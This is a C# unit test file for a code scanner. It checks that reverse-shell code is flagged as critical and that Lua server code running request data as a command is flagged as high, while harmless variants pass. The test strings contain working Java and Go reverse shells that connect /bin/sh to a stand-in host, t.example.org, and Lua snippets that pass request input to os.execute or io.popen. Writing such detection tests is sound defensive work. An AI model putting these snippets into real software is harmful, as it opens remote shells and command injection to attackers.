namespace Symbiont.Scanning.Tests.Code;

/// <summary>Programs whose name comes from elsewhere: from a request, from a name given before.</summary>
public sealed class StartedProgramTests
{
    [Theory]
    [InlineData("A.java", "class A { void f() throws Exception {\n String kind = \"/bin/sh\";\n Process p = new ProcessBuilder(kind).redirectErrorStream(true).start();\n Socket s = new Socket(\"t.example.org\", 99);\n InputStream i = p.getInputStream(), o = s.getInputStream();\n while (!s.isClosed()) { s.getOutputStream().write(i.read()); p.getOutputStream().write(o.read()); }\n} }\n")]
    [InlineData("B.java", "class B { void f() throws Exception {\n String tool = System.getProperty(\"os.name\").contains(\"n\") ? \"x\" : \"/bin/bash\";\n Socket s = new Socket(there, 99);\n Process p = Runtime.getRuntime().exec(tool);\n p.getInputStream().transferTo(s.getOutputStream());\n} }\n")]
    [InlineData("c.go", "package main\nimport (\"net\"; \"os/exec\")\nfunc main() {\n c, _ := net.Dial(\"tcp\", \"t.example.org:99\")\n name := \"/bin/sh\"\n p := exec.Command(name)\n p.Stdin = c\n p.Stdout = c\n p.Run()\n}\n")]
    public void A_shell_with_a_name_on_a_connection_is_grave(string file, string text) => CodeScan.Finds(file, text, "code-reverse-shell", Severity.Critical);

    [Theory]
    [InlineData("A.java", "class A { void f() throws Exception {\n String kind = \"/bin/sh\";\n log(kind);\n Socket s = new Socket(\"t.example.org\", 99);\n s.getOutputStream().write(1);\n} }\n")]
    [InlineData("c.go", "package main\nimport \"os/exec\"\nfunc main() {\n name := \"/bin/sh\"\n exec.Command(name, \"-c\", \"make\").Run()\n}\n")]
    public void A_shell_with_a_name_alone_is_none(string file, string text) => CodeScan.Passes(file, text);

    [Theory]
    [InlineData("a.lua", "local f = io.popen(m.getvars(\"ARGS\")[1].value)\n")]
    [InlineData("b.lua", "ngx.header.a = 'b'\nlocal args_post = ngx.req.get_post_args()\nos.execute(args_post['c'])\n")]
    [InlineData("c.lua", "local h = m.getvars('REQUEST_HEADERS')\nio.popen(m.getvars('REQUEST_BODY')[1].value)\n")]
    public void A_request_that_a_server_in_lua_runs_is_grave(string file, string text) => Assert.Contains(CodeScan.Of(file, text), finding => finding.Severity >= Severity.High);

    [Theory]
    [InlineData("a.lua", "local v = m.getvars('ARGS')\nm.log(4, #v)\nio.popen('uptime')\n")]
    [InlineData("b.lua", "local args = { 'a' }\nprint(args['a'])\nos.execute('make')\n")]
    public void A_server_in_lua_that_only_looks_is_none(string file, string text) => CodeScan.Passes(file, text);
}
